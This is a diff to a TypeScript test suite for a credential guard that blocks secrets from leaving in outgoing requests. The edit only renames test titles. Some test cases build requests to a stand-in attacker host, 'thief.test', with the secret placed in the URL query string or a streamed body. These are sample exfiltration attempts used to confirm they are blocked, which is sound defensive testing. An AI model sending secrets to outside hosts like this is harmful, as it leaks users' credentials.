@@ -58,7 +58,7 @@ async function refusal(request: Partial<HttpRequest>, held = [only('https://home
   );
 }
 
-describe('finding 6: a secret that a node puts into a request', () => {
+describe('a secret that a node puts into a request', () => {
   test.each<[string, Partial<HttpRequest>]>([
     ['the URL', { url: `https://thief.test/?k=${encodeURIComponent(secret)}` }],
     ['the URL, partly encoded', { url: encodeURI(`https://thief.test/?k=${secret}`) }],
@@ -103,7 +103,7 @@ test('requests keep their own authentication and its checks', async () => {
   expect(credentials.guarded(http)).toBe(client);
 });
 
-test('finding 6: no part of a secret in a streamed body is sent', async () => {
+test('no part of a secret in a streamed body is sent', async () => {
   const { http, streamed } = aClient();
   const credentials = new HandedOutCredentials();
   credentials.add('c', secret, only('https://home.test'));
@@ -125,7 +125,7 @@ const longForms: [string, string][] = [
 ];
 
 // Bytes are searched in chunks: each offset places the secret differently across two chunks.
-test.each(longForms)('finding 6: a secret longer than the overlap of searched chunks is found, %s', async (_, form) => {
+test.each(longForms)('finds a secret longer than the overlap between searched chunks, %s', async (_, form) => {
   const credentials = new HandedOutCredentials();
   credentials.add('c', long, only('https://home.test'));
   for (const offset of [1, 20_000, 49_100, 49_152, 60_000, 65_500]) {
